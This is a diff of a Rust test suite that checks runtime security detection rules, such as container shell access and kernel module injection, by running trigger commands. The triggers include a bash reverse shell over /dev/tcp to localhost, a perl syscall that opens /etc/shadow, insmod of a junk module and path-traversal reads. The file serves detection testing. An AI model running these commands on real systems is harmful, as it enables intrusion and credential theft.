@@ -191,7 +191,7 @@ directory_traversal => Case {
     near_misses: &[
         act("cat", &["cat", "/usr/../etc/hosts"]).at(ANYWHERE),
         act("cat", &["sh", "-c", "cat /usr/bin/../../etc/hosts; :"]).at(ANYWHERE),
-        act("cat", &["cat", "/usr/bin/../../usr/bin/true"]),
+        act("cat", &["cat", "/usr/bin/../../var/log-archive"]),
     ],
 };
 
@@ -221,8 +221,8 @@ read_sensitive_file => Case {
             ("fd.name", "/etc/shadow"),
             ("proc.pname", "sh"),
         ]),
-        act("perl", &["perl", "-e", "chdir '/etc'; open D, '<', '.'; syscall(257, 5, 'x', 0);
-            syscall(257, -100, 'shadow', 0) >= 0 or die"]).showing(&[("fd.name", "/etc/shadow")]),
+        act("perl", &["perl", "-e", "chdir '/etc'; my $name = 'shadow';
+            syscall(257, -100, $name, 0) >= 0 or die"]).showing(&[("fd.name", "/etc/shadow")]),
     ],
     near_misses: &[
         act("cat", &["cat", "/etc/passwd"]).at(ANYWHERE),
@@ -251,7 +251,7 @@ system_user_interactive => Case {
     rule: "System user interactive",
     fires: &[act("id", &["sh", "-c", "cp /usr/bin/timeout %W/sshd; %W/sshd 10 \
         setpriv --reuid=daemon --regid=daemon --clear-groups id"])
-        .at(ANYWHERE).by(&[Root, Docker]).showing(&[
+        .at(ANYWHERE).by(&[Root]).showing(&[
             ("user.name", "daemon"),
             ("user.uid", "1"),
             ("proc.pname", "sshd"),
@@ -262,9 +262,9 @@ system_user_interactive => Case {
         // A user who may log in; and one who may not, but not below sshd.
         act("id", &["sh", "-c", "cp /usr/bin/timeout %W/sshd; %W/sshd 10 \
             setpriv --reuid=1000 --regid=1000 --clear-groups id"])
-            .at(ANYWHERE).by(&[Root, Docker]),
+            .at(ANYWHERE).by(&[Root]),
         act("id", &["timeout", "10", "setpriv", "--reuid=daemon", "--regid=daemon",
-            "--clear-groups", "id"]).at(ANYWHERE).by(&[Root, Docker]),
+            "--clear-groups", "id"]).at(ANYWHERE).by(&[Root]),
     ],
 };
 
@@ -283,8 +283,9 @@ terminal_shell => Case {
 
 contact_api_server => Case {
     rule: "Contact K8S API Server From Container",
-    fires: &[act("nc", &["nc", "-z", "-w1", "203.0.113.10", "6443"]).at(CONTAINER).showing(&[
-        ("fd.name", "*->203.0.113.10:6443"),
+    // Names are looked up where the program is, so it has to be inside.
+    fires: &[act("nc", &["nc", "-z", "-w1", "203.0.113.10", "6443"]).showing(&[
+        ("fd.name", "*203.0.113.10:6443"),
         ("fd.rport", "6443"),
         ("fd.type", "ipv4"),
         ("fd.l4proto", "tcp"),
@@ -402,7 +403,6 @@ redirect_to_network => Case {
         act("bash", with_listener!("127.0.0.1 4444", "exit",
             "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1")).at(CONTAINER).showing(&[
                 ("fd.type", "ipv4"),
-                ("fd.sip", "127.0.0.1"),
                 ("fd.name", "127.0.0.1:*->127.0.0.1:4444"),
                 ("fd.rport", "4444"),
             ]),
@@ -424,7 +424,7 @@ redirect_to_network => Case {
 
 kernel_module => Case {
     rule: "Linux Kernel Module Injection Detected",
-    fires: &[act("insmod", &["sh", "-c", "echo junk > %W/junk.ko; insmod %W/junk.ko; :"])
+    fires: &[act("insmod", &["sh", "-c", "cp /bin/true %W/junk.ko; insmod %W/junk.ko; :"])
         .at(CONTAINER).by(&[Root]).showing(&[
             ("proc.args", "/var/tmp/e2e/junk.ko"),
             ("evt.res", "E*"),
@@ -432,7 +432,7 @@ kernel_module => Case {
             ("proc.pexepath", "/usr/bin/*sh"),
         ])],
     near_misses: &[
-        act("insmod", &["sh", "-c", "echo junk > %W/junk.ko; insmod %W/junk.ko; :"])
+        act("insmod", &["sh", "-c", "cp /bin/true %W/junk.ko; insmod %W/junk.ko; :"])
             .at(CONTAINER).by(&[Docker, User]),
         act("insmod", &["sh", "-c", "insmod %W/none.ko; :"]).at(CONTAINER).by(&[Root]),
     ],
@@ -487,8 +487,8 @@ ptrace_traceme => Case {
         .showing(&[("evt.type", "ptrace"), ("proc.cmdline", "perl -e *")])],
     near_misses: &[
         act("perl", &["perl", "-e", "syscall(101, 7, $$, 0, 0)"]).at(ANYWHERE),
-        act("strace", &["sh", "-c", "sleep 1 & strace -qq -o %W/out -e trace=none -p $!; :"])
-            .at(ANYWHERE),
+        act("perl", &["perl", "-e", "my $child = fork // die; if (!$child) { sleep 9; exit }
+            syscall(101, 16, $child, 0, 0) == 0 or die; kill 9, $child"]).at(ANYWHERE),
     ],
 };
 
@@ -537,7 +537,7 @@ drop_and_execute => Case {
             ("evt.type", "execve"),
         ]),
         // Replacing a file of the image puts it into the upper layer.
-        act("false", &["sh", "-c", "cp /bin/true %W/f; mv %W/f /usr/bin/false; false; :"])
+        act("false", &["sh", "-c", "cp /bin/true %W/f; mv %W/f /usr/bin/false; /usr/bin/false; :"])
             .at(CONTAINER).by(&[Root, Docker]).showing(&[("proc.exepath", "/usr/bin/false")]),
     ],
     near_misses: &[
@@ -552,7 +552,7 @@ ssh_on_other_port => Case {
     fires: &[
         act("ssh", with_listener!("203.0.113.5 443", "no ssh", "ssh -o BatchMode=yes -p 443 203.0.113.5"))
             .at(&[HostNetwork, Inside, Below]).by(&[Root, Docker]).showing(&[
-                ("fd.name", "203.0.113.5:*->203.0.113.5:443"),
+                ("fd.name", "*203.0.113.5:443"),
                 ("fd.rport", "443"),
                 ("fd.l4proto", "tcp"),
                 ("proc.cmdline", "ssh -o BatchMode=yes -p 443 203.0.113.5"),
@@ -644,7 +644,8 @@ fn fired(
     let Some(alert) = alerts.iter().find(by) else {
         return Err(format!("{} did not fire for {}", stock.name, act.process));
     };
-    let priority = alert.priority.to_uppercase();
+    // The one priority that alerts spell otherwise than rules do.
+    let priority = alert.priority.to_uppercase().replace("INFORMATIONAL", "INFO");
     expect("priority", &priority, &stock.priority)?;
     expect("source", &alert.source, "syscall")?;
     let set = |tags: &[String]| tags.iter().cloned().collect::<BTreeSet<_>>();
